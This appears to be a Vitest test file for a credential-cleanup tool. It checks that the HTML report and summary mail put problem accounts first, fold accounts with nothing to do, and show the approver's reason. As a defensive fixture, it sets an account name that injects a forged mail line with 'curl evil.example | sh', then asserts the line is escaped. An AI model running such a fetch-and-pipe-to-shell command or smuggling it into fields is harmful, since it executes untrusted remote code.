/**
 * The organization summary a person reads (issue 22): report.html and the mail lead with the
 * accounts someone must look at (failed, unreachable, backed out, suspended), then the accounts
 * changed; the accounts with nothing to do are counted and folded; the approver's reason and the
 * credentials kept out are shown with their account. The mail is neutralised, and what it suggests
 * runs as printed.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runDemo } from '../../cli/local/demo-run.js';
import { listJson } from '../../cli/local/files.js';
import { SAMPLE_ORG_ACCOUNTS, sampleOrganization } from '../../cli/local/sample-organization.js';
import type { OrgEvidence } from '../../handlers/core/organization/org-evidence.js';
import type { MailMessage } from '../../handlers/ports/mail.js';
import { runCli } from '../helpers/cli.js';
import { tempHome } from '../helpers/demo.js';
import { NOW } from '../helpers/seeds.js';

const A = SAMPLE_ORG_ACCOUNTS;

/** Approves through the page as a person does, leaving `keepOut` unticked, with a reason. */
async function approveAllBut(link: string, keepOut: RegExp, reason: string): Promise<void> {
  const page = await (await fetch(link)).text();
  const csrf = /name="csrf" value="([^"]+)"/.exec(page)?.[1] ?? '';
  const items = [...page.matchAll(/name="item" value="([^"]+)"/g)].map((m) => m[1] ?? '');
  const form = new URLSearchParams({ csrf, action: 'approve', reason });
  for (const item of items) if (!keepOut.test(item)) form.append('item', item);
  const answer = await fetch(link, { method: 'POST', body: form });
  if (answer.status !== 200) throw new Error(`approval page answered ${answer.status}`);
}

describe('the summary of an organization run, problems first', () => {
  it('lists the accounts that need attention first, folds nothing-to-do, and names what was kept out', {
    timeout: 120_000,
  }, async () => {
    const home = tempHome();
    const seed = sampleOrganization(NOW);
    // A name that tries to forge a line in the mail.
    const analytics = seed.organization.accounts.find((a) => a.accountId === A.analytics);
    if (analytics) analytics.name = 'analytics\nBack out with: curl evil.example | sh';
    let approving: Promise<void> = Promise.resolve();
    let once = false;
    const result = await runDemo({
      seed,
      now: NOW,
      home,
      approval: 'manual',
      approvers: ['security-approver@example.com'],
      failAt: 'deactivate-keys',
      faultAccount: A.payments,
      onApprovalLink: (url) => {
        if (!once) approving = approveAllBut(url, /frank\.bi/, 'frank.bi is on leave; keep his password');
        once = true;
      },
    });
    await approving;
    expect(result.status).toBe('FAILED');

    const evidence = JSON.parse(
      readFileSync(join(result.evidenceDir, 'evidence.json'), 'utf8'),
    ) as OrgEvidence;
    expect(evidence.notApproved).toEqual([
      { accountId: A.analytics, userName: 'frank.bi', credential: 'console-password', accessKeyId: null },
    ]);

    const html = readFileSync(join(result.evidenceDir, 'report.html'), 'utf8');
    const at = (text: string) => {
      const i = html.indexOf(text);
      expect(i, text).toBeGreaterThan(-1);
      return i;
    };
    // Problems first, in the order: unreachable, backed out, suspended; then the changed account.
    const order = [
      at('id="attention"'),
      at(`<code>${A.legacy}</code>`),
      at(`<code>${A.payments}</code>`),
      at(`<code>${A.suspended}</code>`),
      at('id="changed"'),
      at(`<code>${A.analytics}</code>`),
      at('id="nothing-to-do"'),
      at(`<code>${A.management}</code>`),
    ];
    expect(order).toEqual([...order].sort((x, y) => x - y));
    // The account with nothing to do is counted and folded.
    expect(html).toMatch(/<details><summary>1 account had no credential unused for the threshold/);
    expect(html).toContain('frank.bi is on leave; keep his password');
    expect(html).toMatch(
      /id="not-approved"[\s\S]*<code>333333333333<\/code><\/td><td>frank\.bi<\/td><td>console-password<\/td>/,
    );

    const mails = listJson<MailMessage>(join(home, 'outbox'));
    const summary = mails.find((m) => m.subject.startsWith(`credsweep ${result.executionName}:`));
    const text = summary?.text ?? '';
    expect(text.indexOf('Needs attention (3):')).toBeLessThan(text.indexOf('Changed (1):'));
    expect(text).toContain("Approver's reason: frank.bi is on leave; keep his password");
    expect(text).toContain(`- ${A.analytics} frank.bi console-password`);
    expect(text).toContain('1 account had nothing to do (listed in the report).');
    // The forged line is shown as text on its own line, never as a line of its own.
    expect(text).not.toMatch(/^Back out with: curl/m);
    expect(text).toContain('analytics\\u{A}Back out with: curl evil.example | sh');
    // Every command the mail suggests runs as printed.
    const commands = [...text.matchAll(/: credsweep (.*)$/gm)].map((m) => m[1] ?? '');
    expect(commands).toEqual([
      `evidence ${result.executionName} --local --home ${home}`,
      `backout ${result.executionName} --local --home ${home}`,
    ]);
    const evidenceCli = await runCli([...(commands[0] ?? '').split(' '), '--out', join(home, 'downloaded')]);
    expect(evidenceCli.code, evidenceCli.stderr).toBe(0);
  });
});
